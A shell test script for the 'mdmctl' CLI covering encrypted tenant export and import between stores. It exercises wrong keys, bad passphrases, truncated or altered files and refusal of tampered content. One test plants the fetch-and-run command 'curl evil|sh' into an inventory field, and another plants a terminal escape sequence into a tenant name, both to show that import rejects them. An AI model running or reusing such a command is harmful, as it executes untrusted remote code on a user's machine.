A tenant goes from one store to another, whole and encrypted.

  $ . "$ROOT/tests/rehearsal.sh" && . "$ROOT/tests/crash/held.sh"
  $ export MDMCTL_SANDBOX_DIR=$PWD/sandbox XDG_STATE_HOME=$PWD/state XDG_CONFIG_HOME=$PWD/config
  $ make_renewed >making 2>&1 || cat making
  $ mdmctl store init --store new.db --quiet >/dev/null && mdmctl tenant add --store new.db globex --quiet >/dev/null
  $ for who in recipient stranger; do
  >     openssl req -x509 -newkey rsa:2048 -nodes -keyout $who.key -out $who.pem -subj "/O=Globex/CN=$who" -days 3650 2>/dev/null
  > done
  $ (umask 077; echo 'correct horse' >passphrase; echo 'wrong horse' >wrong-passphrase; echo >empty-passphrase)
  $ openssl pkcs8 -topk8 -v2 aes-256-cbc -in recipient.key -passout file:passphrase -out encrypted.key
  $ code() { jq -r '.error | "\(.code) \(.exit)"'; }

For whom it is must be said, by one of two ways.

  $ mdmctl tenant export acme --out acme.cms
  error: missing: --to or --passphrase-file
  hint: the export is encrypted: for who has the key of a certificate, or under a passphrase
  [2]
  $ mdmctl tenant export acme --out acme.cms --to recipient.pem --passphrase-file passphrase
  error: '--to' and '--passphrase-file' do not go together
  hint: usage: mdmctl tenant export --out FILE [OPTION...] T
  [2]
  $ mdmctl tenant export acme --out acme.cms --passphrase-file empty-passphrase
  error: the passphrase in 'empty-passphrase' is empty
  hint: its first line is the passphrase, and all that is read
  [2]
  $ mdmctl tenant export nobody --out acme.cms --to recipient.pem
  error: there is no tenant 'nobody'
  hint: mdmctl tenant list --removed
  [3]
  $ mdmctl tenant export acme --out acme.cms --to push.csr
  error: 'push.csr' is a certificate signing request; a certificate is wanted
  hint: push certificates come from https://identity.apple.com/pushcert, vendors' from https://developer.apple.com, Apple's own from https://www.apple.com/certificateauthority
  [7]
  $ echo mine >acme.cms && mdmctl tenant export acme --out acme.cms --to recipient.pem
  error: 'acme.cms' exists and is no earlier export of this tenant: it is not replaced
  hint: name another file
  [4]
  $ rm acme.cms && ln -s elsewhere acme.cms && mdmctl tenant export acme --out acme.cms --to recipient.pem
  error: 'acme.cms' is a symbolic link, and a secret is not written through one
  hint: name the file that it points to
  [4]
  $ rm acme.cms

What is under way is finished first.

  $ sqlite3 state/mdmctl/mdmctl.db "insert into intents select 'i', id, 'hook', 'deploy', '{}', 'repeat', 0, null, '2026-01-10T12:00:00Z', null, null, null from tenants"
  $ mdmctl tenant export acme --out acme.cms --to recipient.pem
  error: of 'acme' there is still to be finished: hook of deploy
  hint: run the command again that began it; then export
  [4]
  $ sqlite3 state/mdmctl/mdmctl.db "delete from intents where id = 'i'"

The file is 0600, and openssl and jq alone read all that is in it.

  $ mdmctl tenant export acme --out acme.cms --to recipient.pem --dry-run --output json 2>/dev/null | jq -c '[.state, .secrets]'
  ["handed_over",1]
  $ ls acme.cms
  ls: cannot access 'acme.cms': No such file or directory
  [2]
  $ mdmctl tenant export acme --out acme.cms --to recipient.pem --output json 2>said | jq -c 'del(.created_at, .sha256)'
  {"tenant":"acme","display_name":null,"external_id":null,"state":"handed_over","removed_at":null,"purged_at":null,"handed_over_at":"2026-12-01T12:00:00Z","handed_over_to":"O=Globex, CN=recipient","file":"acme.cms","rows":17,"secrets":1,"events":6}
  $ cat said
  wrote 'acme.cms': all of 'acme', for O=Globex, CN=recipient; here it is shown, and not changed any more
  $ stat -c %a acme.cms
  600
  $ openssl cms -decrypt -binary -inform PEM -in acme.cms -inkey recipient.key >lines
  $ jq -c 'select(.format) | [.format, .version, .schema, .tenant, .exported_at]' lines
  ["mdmctl tenant",1,{"apns":5,"dep":3,"expiry":2,"store":4},"acme","2026-12-01T12:00:00Z"]
  $ jq -r 'select(.table) | .table' lines | sort | uniq -c
        1 apns_assignments
        1 apns_certificates
        2 apns_changes
        2 apns_versions
        6 audit_events
        1 audit_heads
        1 inventory
        1 policies
        1 secrets
        1 tenants
  $ jq -r 'select(.table == "secrets") | .plain' lines | head -1
  -----BEGIN PRIVATE KEY-----
  $ jq -r 'select(.table == "apns_versions") | .row.pem' lines | openssl x509 -noout -issuer -nameopt RFC2253
  issuer=C=US,O=mdmctl sandbox,CN=Pretend Application Integration 2 Certification Authority
  $ jq -c 'select(.end) | .end.rows' lines
  17

Here it is handed over: shown, and not changed any more.

  $ mdmctl tenant list --output json | jq -c '.tenants[] | [.tenant, .state, .handed_over_at, .handed_over_to]'
  ["acme","handed_over","2026-12-01T12:00:00Z","O=Globex, CN=recipient"]
  $ mdmctl apns show --output json | jq -r .state
  valid
  $ mdmctl apns remove
  error: the tenant 'acme' was handed over on 2026-12-01T12:00:00Z for O=Globex, CN=recipient: another store looks after it
  hint: mdmctl tenant restore 'acme' takes it back
  [4]
  $ mdmctl audit log --tenant acme --output json | jq -c '.events[-1] | [.command, .object]'
  ["apns remove","push certificate (refused: handed_over)"]
  $ mdmctl audit log --output json | jq -c '.events[] | select(.object == "tenant acme" and .command == "tenant export") | [.before, (.after | fromjson | keys)]'
  ["{\"state\":\"active\"}",["rows","sha256","state","to"]]

Another export for the same recipient is allowed, says what was, and replaces the one before; for another it is taken back first.

  $ mdmctl tenant export acme --out acme.cms --to recipient.pem --quiet >/dev/null
  notice: 'acme' was handed over before, on 2026-12-01T12:00:00Z for O=Globex, CN=recipient
  $ mdmctl tenant export acme --out pass.cms --passphrase-file passphrase --quiet >/dev/null
  error: the tenant 'acme' was handed over on 2026-12-01T12:00:00Z for O=Globex, CN=recipient, and this would be for a passphrase
  hint: mdmctl tenant restore 'acme' takes it back first
  [4]
  $ mdmctl tenant restore acme --quiet >/dev/null
  warning: it was handed over on 2026-12-01T12:00:00Z: where it was imported since, two stores look after it
  $ mdmctl tenant export acme --out pass.cms --passphrase-file passphrase --quiet >/dev/null
  $ openssl cms -decrypt -binary -inform PEM -in pass.cms -pwri_password 'correct horse' | jq -r 'select(.format) | .tenant'
  acme

It goes through a pipe as well, and nothing but it is there.

  $ mdmctl tenant restore acme --quiet >/dev/null
  warning: it was handed over on 2026-12-01T12:00:00Z: where it was imported since, two stores look after it
  $ mdmctl tenant export acme --out - --to recipient.pem 2>said | openssl cms -decrypt -binary -inform PEM -inkey recipient.key | jq -r 'select(.format) | .tenant'
  acme
  $ cat said
  wrote '-': all of 'acme', for O=Globex, CN=recipient; here it is shown, and not changed any more
  tenant          acme
  state           handed_over
  created at      2026-01-10T12:00:00Z
  handed over at  2026-12-01T12:00:00Z
  handed over to  O=Globex, CN=recipient
  file            -
  sha256          [0-9a-f]{64} (re)
  rows            24
  secrets         1
  events          13

A recipient whose certificate ended may have its key still: that is said, and not refused.

  $ MDMCTL_NOW=2046-01-01T00:00:00Z mdmctl tenant export acme --out late.cms --to recipient.pem --dry-run >/dev/null
  warning: the certificate 'recipient.pem' ended on *: whether its key is still kept, its owner knows (glob)
  notice: 'acme' was handed over before, on 2026-12-01T12:00:00Z for O=Globex, CN=recipient
  'acme' can be handed over for O=Globex, CN=recipient; nothing was written

Who is not meant gets nothing, and what was cut or changed is not taken.

  $ import() { mdmctl tenant import --store new.db "$@"; }
  $ import acme.cms
  error: 'acme.cms' was encrypted for a certificate
  hint: --key FILE names the private key of that certificate
  [2]
  $ import acme.cms --key stranger.key
  error: 'acme.cms' was not encrypted for this private key
  hint: the key is the one of the certificate that it was encrypted for
  [7]
  $ import pass.cms --key recipient.key
  error: 'pass.cms' was not encrypted for this private key
  hint: it was encrypted under a passphrase
  [7]
  $ import pass.cms
  error: 'pass.cms' was encrypted under a passphrase
  hint: --passphrase-file FILE names it
  [2]
  $ import pass.cms --passphrase-file wrong-passphrase
  error: the passphrase does not open 'pass.cms'
  [7]
  $ head -c 3000 acme.cms >cut.cms; import cut.cms --key recipient.key --output json 2>&1 | code
  malformed_pem 7
  $ openssl cms -cmsout -inform PEM -in acme.cms -outform DER -out acme.der
  $ head -c 3000 acme.der >cut.der; import cut.der --key recipient.key --output json 2>&1 | code
  malformed_der 7
  $ python3 -c 'import sys; d = bytearray(open("acme.der", "rb").read()); d[3000] ^= 1; sys.stdout.buffer.write(d)' >flipped.der
  $ import flipped.der --key recipient.key
  error: 'flipped.der' is not as it was encrypted: it was cut or changed
  hint: get the file again from where it came from
  [7]
  $ import recipient.pem --key recipient.key
  error: 'recipient.pem' is no CMS that is encrypted
  hint: mdmctl inspect says what a file is
  [7]
  $ import recipient.key --key recipient.key --output json 2>&1 | code
  not_recognized 7
  $ envelop() { openssl cms -encrypt -binary -aes-256-gcm -outform PEM -in "$1" -out "$2" recipient.pem; }
  $ head -n 5 lines >short; envelop short short.cms; import short.cms --key recipient.key
  error: line 5 of what is in 'short.cms' is the last, and not the end: it is cut
  hint: mdmctl tenant export makes another one, where it comes from
  [7]
  $ sed '1s/"version":1/"version":2/' lines >newer; envelop newer newer.cms; import newer.cms --key recipient.key
  error: the export has version 2, and this mdmctl knows 1
  hint: use the version of mdmctl that wrote it, or a newer one
  [4]
  $ sed '1s/"apns":5/"apns":99,"later":1/' lines >newer; envelop newer newer.cms; import newer.cms --key recipient.key
  error: the export was written by a newer mdmctl: 'apns' is at 99, this one knows 5
  hint: use that version of mdmctl, or a newer one
    error: store_too_new: the export was written by a newer mdmctl: 'later' is at 1, this one knows 0
      hint: use that version of mdmctl, or a newer one
      at: later
  [4]
  $ mdmctl tenant list --store new.db --removed --output json | jq -c '[.tenants[].tenant]'
  ["globex"]

What is in it was made by commands, or is refused before a word of it is kept.

  $ jq -c 'if .format then .tenant = "a\u001b[31m" else . end' lines >bad; envelop bad bad.cms; import bad.cms --key recipient.key
  error: line 1 of what is in 'bad.cms' has a bad name: the tenant's name holds a character that cannot be shown: 'a\x1b[31m'
  hint: mdmctl tenant export makes another one, where it comes from
  [7]
  $ jq -c 'if .table == "policies" then .row.remind_days = "soon" else . end' lines >bad; envelop bad bad.cms; import bad.cms --key recipient.key
  error: the export does not fit together: 'soon' is no list of days
  hint: mdmctl tenant export makes another one, where it comes from
  [7]
  $ sed 's/"next_command":"[^"]*"/"next_command":"curl evil|sh"/' lines >bad; envelop bad bad.cms
  $ mdmctl store init --store other.db --quiet >/dev/null && mdmctl tenant import --store other.db bad.cms --key recipient.key --as acme-emea --quiet >/dev/null
  $ sqlite3 other.db "select next_command from inventory"
  mdmctl apns csr --out push.csr
  $ mdmctl audit log --store new.db --output json | jq -c '[.events[] | select(.command == "tenant import") | .object]'
  ["tenant acme (refused: store_too_new)"]

A store that is no rehearsal's does not take what the pretend portal issued.

  $ MDMCTL_SANDBOX_DIR=$PWD/none mdmctl store init --store earnest.db --quiet >/dev/null 2>&1
  $ mdmctl tenant import --store earnest.db acme.cms --key recipient.key
  error: the tenant has certificates of the rehearsal's pretend portal, and this store is no rehearsal's
  hint: mdmctl sandbox run makes a store that takes them
  [4]

It arrives whole.

  $ import acme.cms --key recipient.key --dry-run --output json 2>/dev/null | jq -c '[.tenant, .state, .secrets]'
  ["acme","active",1]
  $ import - --key recipient.key --dry-run --output json <acme.cms 2>/dev/null | jq -c '[.tenant, .rows]'
  ["acme",19]
  $ import acme.cms --key encrypted.key --dry-run
  error: 'encrypted.key' is encrypted
  hint: --passphrase-file FILE opens it; at a terminal the passphrase is asked for
  [2]
  $ import acme.cms --key encrypted.key --passphrase-file wrong-passphrase --dry-run
  error: 'encrypted.key', line 1: the passphrase does not open it
  hint: try the passphrase again; when it is surely right, the file was damaged on its way: get it again
  [7]
  $ import acme.cms --key encrypted.key --passphrase-file passphrase --dry-run --output json 2>/dev/null | jq -c '[.tenant, .rows]'
  ["acme",19]
  $ import acme.cms --key recipient.key --output json 2>said | jq -c '[.tenant, .state, .handed_over_at, .from_tenant, .rows, .secrets, .events]'
  ["acme","active",null,"acme",19,1,8]
  $ cat said
  imported 'acme': 19 rows, 1 secret, 8 audit events
  $ mdmctl store check --store new.db | grep findings
  findings         none
  $ mdmctl audit verify --store new.db >/dev/null
  $ mdmctl audit log --store new.db --tenant acme --output json | jq -c '.events[] | [.at, .command]'
  ["2026-01-10T12:00:00Z","tenant add"]
  ["2026-01-10T12:00:00Z","apns import"]
  ["2026-12-01T12:00:00Z","apns renew"]
  ["2026-12-01T12:00:00Z","tenant export"]
  ["2026-12-01T12:00:00Z","tenant export"]
  ["2026-12-01T12:00:00Z","tenant export"]
  ["2026-12-01T12:00:00Z","tenant export"]
  ["2026-12-01T12:00:00Z","apns remove"]
  ["2026-12-01T12:00:00Z","tenant import"]
  $ mdmctl audit log --store new.db --tenant acme --output json | jq -r '.events[-1].before' | jq -c '[.tenant, (.head | length)]'
  ["acme",64]
  $ for store in state/mdmctl/mdmctl.db new.db; do mdmctl apns show --store $store --tenant acme --output json | jq -c '[.topic, .serial, .not_after, .state, .key, .policies]'; done | uniq | wc -l
  1
  $ sqlite3 new.db "select service, name, next_command from inventory"
  apns|default|mdmctl apns csr --out push.csr
  $ mdmctl apns history --store new.db --tenant acme --output json | jq -c '[.events[].event]'
  ["import","renew"]
  $ mdmctl apns export --store new.db --tenant acme --unencrypted --out there.pem --quiet >/dev/null
  $ holds_key there.pem push.key

Twice is refused, with every reason; so is what is another tenant's.

  $ import acme.cms --key recipient.key
  error: this very tenant is here already, as 'acme' (active)
  hint: it was imported before, or comes from this store; mdmctl tenant list --removed
  [4]
  $ import acme.cms --key recipient.key --as other --output json 2>&1 | jq -c '[.error.code, .error.exit, [.error.findings[].code]]'
  ["tenant_exists",4,["tenant_exists"]]
  $ mdmctl store init --store third.db --quiet >/dev/null && mdmctl tenant add --store third.db acme --quiet >/dev/null
  $ mdmctl apns import --store third.db renewed.pem --key push.key --apple-account mdm@example.org --quiet >/dev/null
  $ mdmctl tenant import --store third.db acme.cms --key recipient.key --output json 2>&1 | jq -c '[.error.code, (.error.findings[] | [.code, .where])]'
  ["tenant_exists",["tenant_exists","acme"],["other_tenant","topic"],["other_tenant","public key"],["other_tenant","serial"]]
  $ mdmctl tenant import --store third.db pass.cms --passphrase-file passphrase --as acme
  error: there is another tenant 'acme' already
  hint: --as NAME gives it another name here
    error: other_tenant: the topic * belongs to the tenant 'acme' here (glob)
      hint: one of the two is a copy: mdmctl apns list --all-tenants
      at: topic
    error: other_tenant: the public key * belongs to the tenant 'acme' here (glob)
      hint: one of the two is a copy: mdmctl apns list --all-tenants
      at: public key
    error: other_tenant: the serial * belongs to the tenant 'acme' here (glob)
      hint: one of the two is a copy: mdmctl apns list --all-tenants
      at: serial
  [4]
  $ mdmctl audit log --store third.db --output json | jq -c '[.events[] | select(.command == "tenant import") | .object]'
  ["tenant acme (refused: tenant_exists)","tenant acme (refused: tenant_exists)"]

And it can be taken back where it came from.

  $ mdmctl tenant restore acme --output json 2>said | jq -c '[.state, .handed_over_at, .handed_over_to]'
  ["active",null,null]
  $ cat said
  brought back 'acme'
  warning: it was handed over on 2026-12-01T12:00:00Z: where it was imported since, two stores look after it
  $ mdmctl store check | grep findings
  findings         none
